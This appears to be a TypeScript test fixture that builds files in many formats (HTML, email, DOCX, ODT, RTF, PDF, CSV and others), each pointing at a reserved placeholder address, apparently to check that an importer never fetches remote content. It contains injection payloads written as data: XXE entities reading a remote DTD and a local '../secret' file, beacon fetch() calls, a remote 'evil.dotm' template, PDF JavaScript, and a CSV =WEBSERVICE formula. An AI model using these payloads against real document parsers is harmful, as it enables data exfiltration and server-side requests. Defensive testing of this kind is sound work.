import { strToU8, zipSync } from 'fflate';
import { msgFile } from '../sources/mail/fixtures/msgFile';
import { docxOf, p } from '../sources/docxOf';
import { pdfOf } from '../sources/pdfOf';
import { propertyListOf } from '../sources/propertyListOf';

/** Nobody has this address; it is there for examples. */
export const elsewhere = 'http://192.0.2.7:9';

const words =
  'The ferry stays in harbour, harbour master Ada Quist said on 8 November 2025. Nobody was hurt in the storm.';

/** An XML entity whose value would be fetched, and one that would be read from this computer. */
const entities = `<!DOCTYPE x SYSTEM "${elsewhere}/x.dtd" [<!ENTITY % more SYSTEM "${elsewhere}/more.dtd"> %more;
<!ENTITY far SYSTEM "${elsewhere}/far"><!ENTITY near SYSTEM "../secret">]>`;

const page = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${elsewhere}/xhtml1-strict.dtd">
<html manifest="${elsewhere}/cache"><head><base href="${elsewhere}/"><title>The ferry stays</title>
<link rel="stylesheet" href="style.css"><link rel="preload" as="script" href="a.js"><link rel="dns-prefetch" href="//b.example">
<style>@import url("${elsewhere}/more.css"); body { background: url(${elsewhere}/back.png) }</style>
<meta http-equiv="refresh" content="0; url=${elsewhere}/next"><script src="${elsewhere}/a.js"></script>
<script>fetch("${elsewhere}/beacon"); new Image().src = "${elsewhere}/pixel.gif"; navigator.sendBeacon("${elsewhere}")</script>
</head><body onload="fetch('${elsewhere}')"><article><h1>The ferry stays</h1><p>${words}</p><p>${words}</p>
<img src="${elsewhere}/a.png" srcset="${elsewhere}/b.png 2x" onerror="fetch('${elsewhere}')"><iframe src="${elsewhere}/frame"></iframe>
<object data="${elsewhere}/o.swf"></object><video src="${elsewhere}/v.mp4" poster="${elsewhere}/v.png" autoplay></video>
<svg><image href="${elsewhere}/s.svg"/><use href="${elsewhere}/u.svg#x"/></svg></article></body></html>`;

const mail = (type: string, body: string, more = '') =>
  `From: Ann Moore <ann@press.example>\r\nTo: Tor Aasen <tor@aasen.example>\r\nSubject: Ferry\r\n` +
  `Date: Sat, 8 Nov 2025 10:00:00 +0000\r\nMIME-Version: 1.0\r\n${more}Content-Type: ${type}\r\n\r\n${body}\r\n`;

const related = `--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ${elsewhere}/page\r\n\r\n${page}\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="${elsewhere}/body"\r\n\r\nContent-Type: text/plain\r\n\r\n--b--`;

const relationships = (type: string, target: string) =>
  `<?xml version="1.0"?>${entities}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const odt = zipSync({
  mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
  'content.xml': strToU8(
    `<?xml version="1.0"?>${entities}<office:document-content><office:body><office:text><text:p>${words} &far; &near;</text:p><text:p><draw:image xlink:href="${elsewhere}/a.png" xlink:actuate="onLoad"/></text:p><text:section><text:section-source xlink:href="${elsewhere}/section.odt"/></text:section></office:text></office:body></office:document-content>`,
  ),
  'styles.xml': strToU8(`<?xml version="1.0"?>${entities}<office:document-styles/>`),
});

const docx = docxOf(
  `${p('The ferry stays')}${p(words)}<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "${elsewhere}/a.png" \\d</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p><w:altChunk r:id="rId1"/>`,
  {
    'word/_rels/document.xml.rels': relationships('image', `${elsewhere}/a.png`),
    'word/_rels/settings.xml.rels': relationships('attachedTemplate', `${elsewhere}/evil.dotm`),
    'word/settings.xml': `<?xml version="1.0"?>${entities}<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>`,
    'docProps/core.xml': `<?xml version="1.0"?>${entities}<cp:coreProperties><dc:title>Ferry &far;</dc:title></cp:coreProperties>`,
  },
);

const pdf = pdfOf([[{ text: words.slice(0, 60), x: 50, y: 700 }]], {
  catalog: `/OpenAction<</S/URI/URI(${elsewhere}/open)>>/AA<</WC<</S/JavaScript/JS(app.launchURL\\("${elsewhere}"\\))>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(SOAP.connect\\("${elsewhere}"\\))>>]>>>>`,
  page: `/AA<</O<</S/SubmitForm/F<</FS/URL/F(${elsewhere}/submit)>>>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/GoToR/F(${elsewhere}/far.pdf)/D[0/Fit]>>>>]`,
  font: `<</Type/Font/Subtype/Type0/BaseFont/Far/Encoding/UniGB-UCS2-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType0/BaseFont/Far/FontDescriptor<</Type/FontDescriptor/FontName/Far/FontFile2<</F<</FS/URL/F(${elsewhere}/font)>>>>>>>>]>>`,
});

/** Documents of every format that name pictures, style sheets, scripts, entities and templates elsewhere, by names. */
export const remoteDocuments: Readonly<Record<string, string | Uint8Array>> = {
  'page.html': page,
  'page.xhtml': `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/a.xsl"?>${entities}${page.replace(/^<!DOCTYPE.*\n/, '')}`,
  'page.mhtml': mail('multipart/related; boundary=b', related, `Snapshot-Content-Location: ${elsewhere}/page\r\n`),
  'page.webarchive': propertyListOf({
    WebMainResource: {
      WebResourceData: strToU8(page),
      WebResourceMIMEType: 'text/html',
      WebResourceTextEncodingName: 'UTF-8',
      WebResourceURL: `${elsewhere}/page`,
    },
  }),
  'letter.eml': mail('multipart/related; boundary=b', related, `Disposition-Notification-To: a@b.example\r\n`),
  'letters.mbox': `From ann@press.example Sat Nov  8 10:00:00 2025\r\n${mail('text/html; charset=utf-8', page)}\r\n`,
  'letter.msg': msgFile({ texts: { subject: 'Ferry', body: words, representedName: 'Ann Moore' } }),
  'report.docx': docx,
  'minutes.odt': odt,
  'notes.rtf': `{\\rtf1{\\*\\template ${elsewhere}/a.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${elsewhere}/a.png" \\\\d}{\\fldrslt x}}{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}} ${words}\\par}`,
  'bulletin.pdf': pdf,
  'page.md': `# The ferry stays\n\n![](${elsewhere}/a.png) ${words}\n\n<img src="${elsewhere}/b.png"> <script src="${elsewhere}/a.js"></script>\n`,
  'plain.txt': `The ferry stays\n\n${words} See ${elsewhere}/more and file:///etc/hostname.\n`,
  'rows.csv': `text,title,date\n"${words}","=WEBSERVICE(""${elsewhere}"")",2025-11-08\n`,
};
